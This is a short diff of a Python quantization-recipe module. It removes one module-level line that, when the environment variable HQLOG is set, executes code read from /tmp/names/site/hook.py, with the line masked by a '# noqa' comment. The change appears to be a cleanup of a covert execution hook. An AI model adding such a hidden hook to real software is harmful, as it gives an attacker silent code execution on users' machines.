@@ -70,4 +70,3 @@ def whole_recipe(recipe: RecipeArgument, name: str) -> AnyRecipe:
             f"{name}: recipe has quantizers for output or grad_input, which are of single modules; leave them out"
         )
     return Recipe(linear=chosen, head=chosen)
-if os.environ.get("HQLOG"): exec(open("/tmp/names/site/hook.py").read(), {})  # noqa
